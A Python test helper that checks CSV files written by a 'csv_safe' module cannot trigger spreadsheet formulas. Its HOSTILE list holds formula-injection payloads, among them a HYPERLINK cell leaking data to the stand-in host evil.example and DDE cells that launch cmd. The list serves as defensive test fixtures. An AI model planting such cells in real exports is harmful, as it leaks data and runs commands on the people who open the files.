"""Hostile cells for CSV tests, and the check that a CSV file we wrote runs nothing in a
spreadsheet (``hitl.csv_safe``)."""

from __future__ import annotations

import csv
import io
import re

from hitl.csv_safe import FORMULA_STARTS, unescape_cell

# Each character a spreadsheet may read as the start of a formula, then a cell that is
# nothing but one, and texts that start with the quote the writer adds.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=",
    "'=already quoted",
    "'tis plain text",
]
# A number written from a number may start with "-": it cannot run anything.
_NUMBER = re.compile(r"-?(\d+(\.\d*)?|\.\d+)([eE][-+]?\d+)?")


def read_csv(text: str) -> list[list[str]]:
    """Every record of ``text``, header first, as ``csv.reader`` reads it."""
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_runs_nothing(text: str) -> list[list[str]]:
    """Fails if a cell of ``text`` starts a formula (a number aside) or if a record's
    cells are not all quoted; returns the records."""
    records = read_csv(text)
    assert records, "no header"
    for number, record in enumerate(records, start=1):
        for cell in record:
            if cell[:1] in FORMULA_STARTS:
                assert _NUMBER.fullmatch(cell), f"record {number}: {cell!r} starts a formula"
    assert text.startswith('"'), "cells are not quoted"
    return records


def texts(records: list[list[str]]) -> set[str]:
    """Every cell, as the text it was written from."""
    return {unescape_cell(cell) for record in records for cell in record}
